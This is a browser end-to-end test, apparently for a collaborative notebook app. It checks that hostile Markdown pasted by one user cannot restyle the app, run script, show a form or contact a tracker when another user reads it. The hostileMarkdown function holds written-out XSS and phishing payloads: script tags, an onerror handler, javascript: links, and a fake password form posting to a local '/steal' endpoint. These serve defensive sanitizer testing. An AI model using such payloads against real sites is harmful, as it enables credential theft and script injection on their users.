/**
 * A hostile notebook, in Chromium: Tomás (editor) writes Markdown full of raw HTML meant to
 * restyle the app, draw a fake "session expired" password form posting elsewhere, frame
 * another site, run script and fetch a tracking pixel. Priya (commenter) reads it: the text is
 * there, but the app keeps its colours, there is no form, input, frame, style or image, links
 * are inert or open safely, and the tracker never hears from her browser. The page is served
 * with a Content-Security-Policy and still works.
 */
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer, type IncomingMessage } from 'node:http';
import { after, before, test } from 'node:test';
import type { Page } from 'playwright-core';
import { NotebookPage } from '../pages/NotebookPage.js';
import { WorkspaceShell } from '../pages/WorkspaceShell.js';
import { saveFailureArtifacts, saveScreenshot } from '../support/artifacts.js';
import { DEMO_ACCOUNTS, DemoSuite, openDemoWorkspace } from '../support/demo-suite.js';

const { tomas: TOMAS, priya: PRIYA } = DEMO_ACCOUNTS;
const suite = new DemoSuite();

/** A site of the attacker's that records every request it gets. */
const trackerHits: string[] = [];
const tracker = createServer((request: IncomingMessage, response) => {
  trackerHits.push(`${request.method ?? ''} ${request.url ?? ''}`);
  response.writeHead(200, { 'content-type': 'image/gif' }).end();
});
let trackerOrigin = '';

before(async () => {
  tracker.listen(0, '127.0.0.1');
  await once(tracker, 'listening');
  const address = tracker.address();
  if (!address || typeof address === 'string') throw new Error('no tracker port');
  // Another origin than the app (a different port): what a tracking pixel elsewhere would be.
  trackerOrigin = `http://localhost:${String(address.port)}`;
  await suite.start();
});
after(async () => {
  await suite.stop();
  tracker.close();
});

function hostileMarkdown(): string {
  return [
    '# Field notes',
    'Ordinary text survives.',
    '<style>body, header, nav, main { background: rgb(255, 0, 0) !important; }</style>',
    '<div style="position:fixed;inset:0;z-index:9999;background:rgb(255,0,0)">Session expired</div>',
    `<form action="${trackerOrigin}/steal" method="post"><p>Your session expired. Password:</p><input type="password" name="password"><button>Sign in again</button></form>`,
    `<iframe src="${trackerOrigin}/frame"></iframe>`,
    `<img src="${trackerOrigin}/pixel.gif" alt="pixel">`,
    `![tracking](${trackerOrigin}/markdown-pixel.gif)`,
    '<img src=x onerror="document.body.dataset.pwned=1">',
    '<script>document.body.dataset.pwned = 1</script>',
    '[script link](javascript:document.body.dataset.pwned=1) [data link](data:text/html,<b>x</b>) [a real source](https://example.org/report)',
    '<a href="https://example.org/" onclick="document.body.dataset.pwned=1" style="color:red">styled link</a>',
    '- [x] task done\n- [ ] task open',
  ].join('\n\n');
}

async function openNotebookAs(page: Page, email: string): Promise<NotebookPage> {
  await openDemoWorkspace(page, email);
  await new WorkspaceShell(page).openSection('Notebook');
  await page.getByRole('group', { name: 'Notebook view' }).waitFor();
  return new NotebookPage(page);
}

const appColours = (page: Page) =>
  page.evaluate(() => ({
    body: getComputedStyle(document.body).backgroundColor,
    header: getComputedStyle(document.querySelector('header') ?? document.body).backgroundColor,
  }));

void test('a hostile notebook neither restyles the app, nor shows a form, nor fetches anything remote', async (t) => {
  const pages: Record<string, Page> = {};
  try {
    const tomas = (pages.tomas = await suite.newPage());
    const tomasNotebook = await openNotebookAs(tomas, TOMAS.email);
    await tomasNotebook.editor().click();
    await tomas.keyboard.press('Control+End');
    // One insertion, as a paste: typed, CodeMirror would close brackets and tags itself.
    await tomas.keyboard.insertText(hostileMarkdown());
    await tomasNotebook.waitForText('task open');
    await new WorkspaceShell(tomas).waitForConnection('Saved');

    const priya = (pages.priya = await suite.newPage());
    const browserRequests: string[] = [];
    priya.on('request', (request) => {
      if (request.url().startsWith(trackerOrigin)) browserRequests.push(request.url());
    });
    const response = await priya.goto('/login');
    const csp = response?.headers()['content-security-policy'] ?? '';
    assert.match(csp, /script-src 'self'/);
    assert.match(csp, /frame-ancestors 'none'/);
    assert.ok(response?.headers()['permissions-policy']?.includes('camera=()'));
    const priyaNotebook = await openNotebookAs(priya, PRIYA.email);
    const coloursBefore = await appColours(priya);
    await priyaNotebook.show('Read');
    const article = priyaNotebook.rendered();
    await article.getByRole('heading', { name: 'Field notes', level: 1 }).waitFor();
    await article.getByText('task open').waitFor();
    // Everything the page will load for this view has been asked for by now.
    await priya.waitForLoadState('networkidle');

    assert.deepEqual(await appColours(priya), coloursBefore, 'the app keeps its colours');
    const found = await article.evaluate((root) => ({
      forbidden: Array.from(root.querySelectorAll('style, form, input, button, iframe, img, script, [style], [onclick], [onerror], [class]'), (element) => element.outerHTML),
      links: Array.from(root.querySelectorAll('a'), (link) => ({ text: link.textContent, href: link.getAttribute('href'), rel: link.getAttribute('rel'), target: link.getAttribute('target') })),
      pwned: document.body.dataset.pwned ?? null,
      text: root.textContent,
    }));
    assert.deepEqual(found.forbidden, [], 'no styling, form, frame, image or script element survives');
    assert.equal(found.pwned, null, 'no script ran');
    assert.ok(found.text?.includes('Ordinary text survives.'));
    assert.ok(found.text?.includes('☑ task done') && found.text.includes('☐ task open'), 'task list state stays as text');
    for (const link of found.links) {
      if (link.href === null) continue;
      assert.match(link.href, /^https?:\/\//, `only web links keep a target: ${JSON.stringify(link)}`);
      assert.equal(link.rel, 'noopener noreferrer');
      assert.equal(link.target, '_blank');
    }
    assert.deepEqual(
      found.links.map((link) => [link.text, link.href]),
      [
        ['Image: pixel', `${trackerOrigin}/pixel.gif`],
        ['Image: tracking', `${trackerOrigin}/markdown-pixel.gif`],
        ['script link', null],
        ['data link', null],
        ['a real source', 'https://example.org/report'],
        ['styled link', 'https://example.org/'],
      ],
    );
    assert.deepEqual(browserRequests, [], 'the browser asked the tracker for nothing');
    assert.deepEqual(trackerHits, [], 'the tracker heard nothing');

    const wide = await saveScreenshot(priya, 'hostile-notebook-1366');
    assert.ok(wide.distinctColours > 16, 'the screenshot is not blank');
    await priya.setViewportSize({ width: 390, height: 844 });
    await saveScreenshot(priya, 'hostile-notebook-390');
    await priya.setViewportSize({ width: 1366, height: 900 });
    await saveScreenshot(priya, 'hostile-notebook-wide');
  } catch (error) {
    await saveFailureArtifacts(t.name, pages, suite.log());
    throw error;
  }
});
